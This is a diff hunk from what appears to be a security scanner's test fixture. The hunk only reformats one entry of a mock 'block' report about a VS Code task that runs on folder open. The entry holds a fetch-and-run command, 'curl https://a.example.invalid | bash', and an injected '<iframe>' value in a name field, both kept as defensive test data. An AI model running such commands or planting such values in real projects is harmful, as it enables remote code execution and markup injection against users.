@@ -13,7 +13,14 @@ export function hostileReport(): Report {
     verdict: 'block',
     summary: { critical: 1, high: 0, medium: 0, low: 0, info: 0 },
     executionMap: [
-      { trigger: 'open', kind: 'vscode-task', name: '<iframe src=//x.invalid>', location: { file: '.vscode/tasks.json', line: 3 }, command: 'curl https://a.example.invalid | bash', reaches: [] },
+      {
+        trigger: 'open',
+        kind: 'vscode-task',
+        name: '<iframe src=//x.invalid>',
+        location: { file: '.vscode/tasks.json', line: 3 },
+        command: 'curl https://a.example.invalid | bash',
+        reaches: [],
+      },
     ],
     findings: [
       {
